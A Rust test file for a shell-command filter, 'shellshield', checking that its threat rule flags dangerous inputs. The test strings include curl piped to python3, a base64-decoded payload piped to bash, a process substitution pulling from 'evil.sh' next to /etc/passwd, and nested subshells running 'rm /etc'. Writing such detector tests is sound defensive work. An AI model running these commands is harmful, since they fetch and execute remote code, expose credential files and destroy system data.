use shellshield::patterns::MAX_INPUT_LENGTH;
use shellshield::rules::raw_threat::check;

#[test]
fn blocks_curl_piped_to_non_shell_interpreter() {
    let decision = check("curl -sSL https://x/y.py | python3").unwrap();
    assert_eq!(decision.reason, "DOWNLOAD-AND-EXEC DETECTED");
}

#[test]
fn blocks_base64_decode_piped_to_shell() {
    let decision = check("echo payload | base64 -d | bash").unwrap();
    assert_eq!(decision.reason, "OBFUSCATED PAYLOAD DETECTED");
}

#[test]
fn blocks_process_substitution_downloader() {
    let decision = check("diff <(curl https://evil.sh) /etc/passwd").unwrap();
    assert_eq!(decision.reason, "PROCESS SUBSTITUTION DETECTED");
}

#[test]
fn blocks_deep_nested_subshells_with_destructive_verb() {
    let cmd = r#"bash -c "bash -c 'bash -c \"bash -c rm /etc\"'""#;
    let decision = check(cmd).unwrap();
    assert_eq!(decision.reason, "DEEP SUBSHELL DETECTED");
}

#[test]
fn allows_benign_pipeline() {
    assert!(check("ls -la | grep foo").is_none());
}

#[test]
fn rejects_over_length_input() {
    let long = "echo ".to_string() + &"a".repeat(MAX_INPUT_LENGTH);
    let decision = check(&long).unwrap();
    assert_eq!(decision.reason, "COMMAND TOO LONG");
}
